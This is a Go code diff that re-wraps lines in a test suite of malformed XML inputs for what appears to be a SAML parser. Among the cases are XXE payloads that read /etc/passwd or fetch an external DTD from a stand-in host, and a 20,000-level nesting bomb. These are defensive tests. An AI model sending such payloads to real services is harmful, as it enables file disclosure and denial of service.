@@ -21,7 +21,8 @@ func badXML() []Case {
 
 	return []Case{
 		craftedCase("XXE", func(m *message) string {
-			return `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + replaceOnce(m.xml(), m.assertion.subject.nameID, "&x;")
+			return `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>` +
+				replaceOnce(m.xml(), m.assertion.subject.nameID, "&x;")
 		}),
 		craftedCase("XXE in a parameter entity", func(m *message) string {
 			return `<!DOCTYPE r [<!ENTITY % x SYSTEM "http://elsewhere.example.com/x.dtd"> %x;]>` + m.xml()
@@ -36,7 +37,8 @@ func badXML() []Case {
 		before("empty DOCTYPE", "<!DOCTYPE r>"),
 		before("DOCTYPE with an external subset", `<!DOCTYPE r SYSTEM "http://elsewhere.example.com/x.dtd">`),
 		before("DOCTYPE in lower case", "<!doctype r>"),
-		craftedCase("unknown entity", func(m *message) string { return replaceOnce(m.xml(), m.assertion.subject.nameID, "&nbsp;") }),
+		craftedCase("unknown entity",
+			func(m *message) string { return replaceOnce(m.xml(), m.assertion.subject.nameID, "&nbsp;") }),
 		before("processing instruction before the root", `<?xml-stylesheet href="x"?>`),
 		atStatus("colon trick: empty prefix", `<:x/><samlp:Status>`),
 		atStatus("colon trick: empty local name", `<samlp:/><samlp:Status>`),
@@ -59,7 +61,8 @@ func badXML() []Case {
 		before("other encoding", `<?xml version="1.0" encoding="ISO-8859-1"?>`),
 		before("bytes that are not UTF-8", "\xff"),
 		craftedCase("UTF-16", func(m *message) string { return inUTF16(m.xml(), binary.LittleEndian, true) }),
-		craftedCase("UTF-16 without a byte order mark", func(m *message) string { return inUTF16(m.xml(), binary.BigEndian, false) }),
+		craftedCase("UTF-16 without a byte order mark",
+			func(m *message) string { return inUTF16(m.xml(), binary.BigEndian, false) }),
 		craftedCase("20,000 levels", func(m *message) string {
 			return m.wrap(strings.Repeat("<saml:a>", 20_000) + strings.Repeat("</saml:a>", 20_000))
 		}),
